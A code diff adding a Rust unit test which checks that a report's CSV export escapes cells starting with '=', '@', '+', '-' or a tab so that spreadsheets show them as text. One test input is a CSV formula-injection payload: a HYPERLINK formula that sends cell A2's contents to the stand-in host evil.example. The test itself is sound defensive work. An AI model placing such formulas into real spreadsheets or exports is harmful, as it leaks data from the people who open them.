@@ -477,4 +477,39 @@ Budi Santoso,,Kecamatan Sukamaju,email,0,2,,2023-11-13 22:19,\r\n\
     assert_eq!(unit.len(), 2);
 }
 
+/// A name typed on a kiosk keyboard (or carried in from another laptop) that looks like a
+/// formula is written so that Excel and Calc show it as text.
+#[test]
+fn report_cells_that_look_like_formulas_are_text() {
+    let row = |name: &str, unit: &str| ReportRow {
+        name: name.to_owned(),
+        nip: None,
+        unit: Some(unit.to_owned()),
+        module: "dasar".to_owned(),
+        done: 0,
+        total: 3,
+        score: None,
+        last_active: None,
+        standards: Vec::new(),
+    };
+    let rows = [
+        row(
+            "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")",
+            "@SUM(A1)",
+        ),
+        row("+1-2", "-3"),
+        row("\tTab", "Bagian Umum"),
+    ];
+    let mut out = Vec::new();
+    write_csv_in(&rows, &jiff::tz::TimeZone::UTC, &mut out).unwrap();
+    let text = String::from_utf8(out).unwrap();
+    let mut lines = text.lines().skip(1);
+    assert_eq!(
+        lines.next().unwrap(),
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Klik\"\")\",,'@SUM(A1),dasar,0,3,,,"
+    );
+    assert_eq!(lines.next().unwrap(), "'+1-2,,'-3,dasar,0,3,,,");
+    assert_eq!(lines.next().unwrap(), "'\tTab,,Bagian Umum,dasar,0,3,,,");
+}
+
 mod work;
